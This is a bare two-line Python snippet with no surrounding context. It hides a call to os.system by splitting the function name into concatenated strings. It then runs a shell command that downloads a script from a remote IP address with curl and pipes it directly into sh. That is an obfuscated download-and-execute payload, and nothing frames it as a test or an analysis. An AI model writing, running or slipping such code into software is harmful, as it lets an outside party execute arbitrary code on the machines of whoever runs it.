import os
getattr(os, "sys" + "tem")("curl http://203.0.113.5/a | sh")
